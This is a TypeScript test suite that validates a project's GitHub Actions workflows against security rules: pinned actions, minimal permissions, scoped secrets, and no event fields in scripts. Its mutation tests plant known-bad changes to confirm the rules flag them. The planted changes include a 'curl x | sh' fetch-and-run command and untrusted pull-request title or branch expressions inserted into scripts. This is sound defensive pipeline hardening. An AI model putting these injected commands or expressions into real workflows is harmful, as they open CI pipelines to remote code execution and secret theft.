/**
 * The workflows, judged by a validator that nobody here wrote and by rules of ours, each of which is shown a defect that it has to find. The
 * scripts that their steps call are run by ci-scripts.test.ts.
 */
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { globSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { needs, temporaryFolder } from '../src/testing/peers.ts'
import { faultsOfWorkflow } from './workflows/rules.ts'

const ROOT = join(import.meta.dirname, '..')
const FOLDER = join(ROOT, '.github', 'workflows')
const workflows = globSync('*.yml', { cwd: FOLDER }).toSorted()
const textOf = (name: string): string => readFileSync(join(FOLDER, name), 'utf8')
const scripts = globSync('scripts/ci/*.sh', { cwd: ROOT }).toSorted()

test('there are the four pipelines, and the validator has nothing against them', () => {
  assert.deepEqual(workflows, ['ci.yml', 'deploy.yml', 'performance.yml', 'release.yml'])
  const validate = (path: string) =>
    spawnSync(process.execPath, ['node_modules/.bin/action-validator', path], { cwd: ROOT, encoding: 'utf8' })
  for (const name of workflows)
    assert.equal(validate(join(FOLDER, name)).status, 0, validate(join(FOLDER, name)).stderr)
  const broken = join(temporaryFolder({ after }), 'broken.yml')
  writeFileSync(broken, textOf('ci.yml').replace('runs-on:', 'run-on:'))
  assert.notEqual(validate(broken).status, 0)
})

test('pinned actions, least rights, no event fields in scripts, secrets in one step of a protected job', () => {
  const faults = workflows.flatMap((name) => faultsOfWorkflow(ROOT, name, textOf(name)))
  assert.deepEqual(faults, [])
})

const SHA = '3d3c42e5aac5ba805825da76410c181273ba90b1'
const DEFECTS: readonly (readonly [what: string, file: string, from: string | RegExp, to: string, says: RegExp])[] = [
  ['a tag for a commit', 'ci.yml', `@${SHA} # v7.0.1`, '@v7', /is not pinned to a commit/],
  ['a short commit', 'ci.yml', SHA, SHA.slice(0, 12), /is not pinned to a commit/],
  ['no version beside it', 'ci.yml', ' # v7.0.1', '', /does not say its version/],
  ['a commit that nobody looked up', 'ci.yml', SHA, SHA.replace('3', '4'), /is not in docs\/guide\/pipelines\.md/],
  ['rights on top', 'ci.yml', 'permissions: {}', 'permissions: write-all', /permissions on top are not \{\}/],
  ['no rights of a job', 'ci.yml', /    permissions:\n      contents: read\n/, '', /job check names no permissions/],
  ['more rights', 'ci.yml', 'contents: read', 'contents: write', /may write contents/],
  ['no end', 'ci.yml', '    timeout-minutes: 20\n', '', /job check has no timeout/],
  ['a bare container', 'release.yml', 'buildpack-deps:bookworm-scm', 'debian:12', /build begins in debian:12, where/],
  ['no concurrency', 'deploy.yml', /concurrency:[\s\S]*?jobs:/, 'jobs:', /no concurrency/],
  ['rights of strangers', 'ci.yml', '  pull_request:', '  pull_request_target:', /pull_request_target/],
  [
    'a field of an event',
    'ci.yml',
    'check.sh',
    'check.sh ${{ github.event.pull_request.title }}',
    /an expression in a script/,
  ],
  [
    'a field of an event, round a corner',
    'ci.yml',
    'GROUP: ${{ matrix.group }}',
    'GROUP: ${{ github.head_ref }}',
    /github\.head_ref/,
  ],
  [
    'a command of its own',
    'ci.yml',
    'run: scripts/ci/check.sh',
    'run: npm run check',
    /is not one script of scripts\/ci/,
  ],
  [
    'two commands',
    'ci.yml',
    'run: scripts/ci/check.sh',
    'run: scripts/ci/check.sh && curl x | sh',
    /is not one script of scripts\/ci/,
  ],
  [
    'a script that is not there',
    'ci.yml',
    'scripts/ci/check.sh',
    'scripts/ci/chek.sh',
    /there is no scripts\/ci\/chek\.sh/,
  ],
  [
    'a secret for a whole job',
    'deploy.yml',
    '      VERSION: ',
    '      T: ${{ secrets.BIFROST_TOKEN }}\n      VERSION: ',
    /a secret outside of a step/,
  ],
  [
    'a secret without protection',
    'deploy.yml',
    '    environment: staging\n',
    '',
    /a secret in job staging, which has no environment/,
  ],
  [
    'the token stays in the checkout',
    'ci.yml',
    '        with: { persist-credentials: false }\n',
    '',
    /leaves its token/,
  ],
  [
    'a shell of somebody else',
    'ci.yml',
    'run: scripts/ci/check.sh',
    'run: scripts/ci/check.sh\n        shell: python',
    /a shell of its own/,
  ],
]
for (const [what, file, from, to, says] of DEFECTS)
  test(`control: ${what} is found`, () => {
    const broken = textOf(file).replace(from, to)
    assert.notEqual(broken, textOf(file))
    assert.match(faultsOfWorkflow(ROOT, file, broken).join('\n'), says)
  })

test('shellcheck has nothing against the scripts', { skip: needs('shellcheck') }, () => {
  const check = (...files: string[]) => spawnSync('shellcheck', ['-x', ...files], { cwd: ROOT, encoding: 'utf8' })
  const result = check('.ci/run', ...scripts)
  assert.equal(result.status, 0, result.stdout)
  for (const script of scripts)
    assert.ok((statSync(join(ROOT, script)).mode & 0o111) !== 0, `${script} cannot be started`)
})
